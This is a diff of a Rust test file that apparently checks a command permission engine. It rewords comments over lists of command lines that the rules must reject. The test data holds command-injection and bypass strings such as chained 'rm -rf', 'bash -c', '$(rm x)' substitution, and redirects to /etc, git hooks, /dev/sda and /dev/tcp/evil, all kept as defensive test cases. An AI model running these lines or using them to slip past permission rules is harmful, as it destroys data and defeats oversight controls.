@@ -1,12 +1,12 @@
-//! Command lines and the rules beside them: which allow a line, and which are for something else.
+//! Command lines with the rules that must allow them, and those with rules that must not.
 
 use acp_lifecycle::rules::ArgvPrefix;
 use acp_lifecycle::{AcceptEditsPolicy, Effect, Effects, Matcher, Rule, RuleScope, Rules, Verdict};
 
 use crate::bypasses::allows;
 
-/// Rules, and a line that they must not allow: a part of it is another command, or what the
-/// program is told makes it one.
+/// Rules, and a line that they must not allow, because a part of it is another command or an
+/// argument makes the program run one.
 const FOREIGN: &[(&str, &str)] = &[
     // Another command somewhere in the line.
     ("cargo test", "cargo test; rm -rf x"),
@@ -57,7 +57,7 @@ const FOREIGN: &[(&str, &str)] = &[
     ("cargo test", "./cargo test"),
     ("cargo test", "cargo -C /x test"),
     ("cargo test", "cargo --config x test"),
-    // What the program is told, also where no table of harm holds it.
+    // Arguments of the program that are not in any table of harmful ones.
     ("cargo test", "cargo test -- --logfile /etc/profile"),
     ("cargo test", "cargo test -- --debugger evil"),
     ("cargo clippy", "cargo clippy -- @file"),
@@ -224,7 +224,7 @@ const FOREIGN: &[(&str, &str)] = &[
     ("rg", "rg --follow x a"),
     ("wc", "wc --files0-from=x"),
     ("printf", "printf -v PATH x"),
-    // Programs that run what they are told: the rule has to hold it.
+    // Programs that run their arguments: the rule must contain the whole command.
     ("bash", "bash -c 'rm -rf x'"),
     ("bash", "bash evil.sh"),
     ("bash -c", "bash -c 'rm -rf x'"),
@@ -325,7 +325,7 @@ const FOREIGN: &[(&str, &str)] = &[
     ("runcon", "runcon x rm y"),
     ("m4", "m4 evil"),
     ("sqlite3", "sqlite3 x '.shell rm'"),
-    // What only a shell can tell.
+    // Constructs that only a shell can resolve.
     ("cargo test", "cargo test $(rm x)"),
     ("cargo test", "cargo test `rm x`"),
     ("cargo test", "cargo test \"$(rm x)\""),
@@ -359,8 +359,8 @@ const FOREIGN: &[(&str, &str)] = &[
     ("cat", "cat <<< $(rm x)"),
 ];
 
-/// Lines that write a file which a rule for `cargo test` does not allow, and what the call says it
-/// writes: the file itself, which only the policy could allow, or another one.
+/// Lines that write a file which a rule for `cargo test` does not allow, and the file that the call
+/// declares to write: the file itself, which only the policy could allow, or another one.
 const ELSEWHERE: &[(&str, &str)] = &[
     ("cargo test > /etc/x", "/etc/x"),
     ("cargo test >/etc/x", "/etc/x"),
@@ -370,7 +370,7 @@ const ELSEWHERE: &[(&str, &str)] = &[
     ("cargo test > .git/hooks/pre-commit", "/p/.git/hooks/pre-commit"),
     ("cargo test > /dev/sda", "/dev/sda"),
     ("cargo test > /dev/tcp/evil/80", "/dev/tcp/evil/80"),
-    // The policy allows what is said here, but it is not what is written.
+    // The policy allows the declared file, but another one is written.
     ("cargo test > x", "/p/y"),
     ("cargo test 2>&1 > x", "/p/y"),
     ("cargo test > /dev/null > x", "/p/y"),
@@ -379,7 +379,7 @@ const ELSEWHERE: &[(&str, &str)] = &[
     ("cargo test > sub/../x", "/p/x"),
     ("cargo test > /etc/x", "/p/x"),
     ("cd sub && cargo test > x", "/p/x"),
-    // A rule knows nothing of these ways to write, so that naming the file does not help.
+    // Rules do not support these ways to write, so declaring the file does not help.
     ("cargo test >| x", "/p/x"),
     ("cargo test &> x", "/p/x"),
     ("cargo test &>> x", "/p/x"),
@@ -392,7 +392,7 @@ const ELSEWHERE: &[(&str, &str)] = &[
     ("A=1 cargo test > x", "/p/x"),
 ];
 
-/// Lines that write a file which the call says it writes, and the policy allows.
+/// Lines that write the file that the call declares, which the policy allows.
 const WRITTEN: &[(&str, &str)] = &[
     ("cargo test > x", "/p/x"),
     ("cargo test 2>&1 >> sub/x", "/p/sub/x"),
@@ -402,7 +402,7 @@ const WRITTEN: &[(&str, &str)] = &[
     ("cargo test > /dev/null 2> x", "/p/x"),
 ];
 
-/// Rules, and a line that they are for.
+/// Rules, and a line that they allow.
 const OWN: &[(&str, &str)] = &[
     ("cargo test", "cargo test"),
     ("cargo test", "cargo test -p x"),
@@ -455,7 +455,7 @@ fn no_line_is_allowed_by_rules_for_something_else() {
     assert!(through.is_empty(), "{through:#?}");
 }
 
-/// Whether a line that says it writes a file is allowed, where edits in `/p` are.
+/// Whether a line that declares to write a file is allowed where edits in `/p` are.
 fn may_write(line: &str, written: &str) -> bool {
     let mut rules = Rules::default();
     for words in ["cargo test", "cd"] {
@@ -474,7 +474,7 @@ fn output_goes_only_to_files_that_the_call_says_it_writes_and_may() {
     assert!(through.is_empty(), "{through:#?}");
     let asked: Vec<_> = WRITTEN.iter().filter(|(line, file)| !may_write(line, file)).collect();
     assert!(asked.is_empty(), "{asked:#?}");
-    // And none of it without saying so.
+    // None of them is allowed without the declaration.
     let unsaid = ELSEWHERE.iter().chain(WRITTEN).filter(|(line, _)| allows("cargo test, cd", line));
     assert_eq!(unsaid.count(), 0);
 }
@@ -483,7 +483,7 @@ fn output_goes_only_to_files_that_the_call_says_it_writes_and_may() {
 fn a_line_is_allowed_by_the_rules_for_each_of_its_commands() {
     let asked: Vec<_> = OWN.iter().filter(|(rules, line)| !allows(rules, line)).collect();
     assert!(asked.is_empty(), "{asked:#?}");
-    // Without any one of them it is not.
+    // Without any one of the rules, the line is not allowed.
     for (rules, line) in OWN.iter().filter(|(rules, _)| rules.contains(", ")) {
         for left_out in rules.split(", ") {
             let rest: Vec<_> = rules.split(", ").filter(|rule| *rule != left_out).collect();
